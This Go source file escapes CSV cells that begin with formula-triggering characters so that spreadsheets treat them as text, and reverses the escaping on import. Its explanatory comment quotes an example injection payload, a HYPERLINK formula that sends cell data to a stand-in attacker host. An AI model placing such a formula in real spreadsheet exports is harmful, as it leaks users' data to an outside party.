package geo

import (
	"strconv"
	"strings"
)

// A CSV cell that begins with =, +, -, @, a tab or a carriage return is
// read by Excel and LibreOffice as a formula: an imported actor name like
// =HYPERLINK("http://evil.example/?"&A1;"click") would arrive live in a
// journalist's spreadsheet. As OWASP advises, such a text cell is written
// with a leading ' (which spreadsheets show as text and do not display);
// numbers are left alone. A text that already begins with quotes before
// one of those characters gets one more, so that ReadCell undoes exactly
// what SafeCell did and an export imports back to the same values.

// SafeCell returns v as a CSV cell that no spreadsheet runs as a formula.
func SafeCell(v string) string {
	if _, err := strconv.ParseFloat(v, 64); err == nil {
		return v
	}
	if formulaLike(v) {
		return "'" + v
	}
	return v
}

// ReadCell undoes SafeCell.
func ReadCell(v string) string {
	if strings.HasPrefix(v, "'") && formulaLike(v) {
		return v[1:]
	}
	return v
}

// formulaLike reports whether v, after any leading quotes, begins with a
// character that starts a formula.
func formulaLike(v string) bool {
	v = strings.TrimLeft(v, "'")
	return v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0]))
}
